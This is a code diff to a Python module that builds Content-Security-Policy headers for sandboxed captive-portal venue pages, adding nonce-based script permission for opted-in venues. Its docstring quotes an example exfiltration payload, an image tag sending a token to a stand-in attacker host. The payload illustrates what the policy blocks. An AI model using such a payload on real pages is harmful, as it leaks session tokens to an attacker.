@@ -13,14 +13,30 @@ same host as the consoles, so its page is a sandboxed, opaque origin that may no
   carry the token out (``<img src="https://evil.example/leak?s=…">``);
 * post a form anywhere but here and the allow-listed post-login hosts (a form post that our server
   answers with a redirect is checked against ``form-action`` too).
+
+A venue the NOC opted in (``Venue.scripts_allowed``) gets one change: ``allow-scripts`` in the
+sandbox and ``script-src 'nonce-…'`` with this response's nonce, which the template engine put on
+the inline ``<script>`` tags of the venue's own template text (``ad_pages/script_nonce.py``) —
+never on markup that came from data, never on ``<script src>``. Everything else stays: still an
+opaque origin (no ``allow-same-origin``: no cookies, storage or same-origin reads of this host),
+no fetch/XHR/WebSocket but to this host, no resources or form posts to other hosts, not framed.
+What scripts add, and the NOC accepts by opting a venue in: a script can read what its page
+shows (the page's ``c`` token, the status link) and navigate the phone itself — see SECURITY.md.
 """
 from __future__ import annotations
 
+import re
+import secrets
 from collections.abc import Iterable
 
 SANDBOX = ("sandbox allow-forms allow-popups allow-popups-to-escape-sandbox "
            "allow-top-navigation-by-user-activation")
 SAME_SITE = "'self' data:"
+_NONCE = re.compile(r"^[A-Za-z0-9_\-]{16,64}$")     # secrets.token_urlsafe: nothing to inject
+
+
+def new_nonce() -> str:
+    return secrets.token_urlsafe(18)
 
 
 def _source(host: str) -> str:
@@ -31,15 +47,18 @@ def _source(host: str) -> str:
     return f"*{host}" if host.startswith(".") else host
 
 
-def venue_page_csp(form_hosts: Iterable[str] = (), *, any_form_target: bool = False) -> str:
+def venue_page_csp(form_hosts: Iterable[str] = (), *, any_form_target: bool = False,
+                   script_nonce: str = "") -> str:
     """The policy for a venue-rendered page; ``form_hosts`` are the post-login redirect hosts.
     ``any_form_target``: a gateway that grants by redirect (openNDS) is sent the phone after the form
-    post, at an address the page cannot know in advance."""
+    post, at an address the page cannot know in advance. ``script_nonce``: the response's nonce
+    for a venue allowed to run scripts ("" = no script runs)."""
     form = " ".join(s for s in ("'self'", *(_source(h) for h in form_hosts)) if s)
+    nonce = script_nonce if _NONCE.match(script_nonce) else ""
     return "; ".join((
-        SANDBOX,
+        f"{SANDBOX} allow-scripts" if nonce else SANDBOX,
         "default-src 'none'",
-        "script-src 'none'",
+        f"script-src 'nonce-{nonce}'" if nonce else "script-src 'none'",
         f"img-src {SAME_SITE}",
         f"style-src {SAME_SITE} 'unsafe-inline'",
         f"font-src {SAME_SITE}",
